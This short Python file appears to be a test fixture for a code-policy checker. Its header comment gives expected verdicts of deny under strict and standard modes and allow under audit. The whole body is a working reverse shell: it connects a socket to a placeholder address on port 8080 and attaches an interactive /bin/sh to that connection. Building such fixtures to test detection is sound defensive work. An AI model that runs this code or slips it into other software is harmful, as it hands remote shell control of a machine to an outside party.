# expect: strict=deny standard=deny audit=allow
import socket
import subprocess

s = socket.socket()
s.connect(("192.0.2.15", 8080))
subprocess.Popen("/bin/sh -i", shell=True, stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
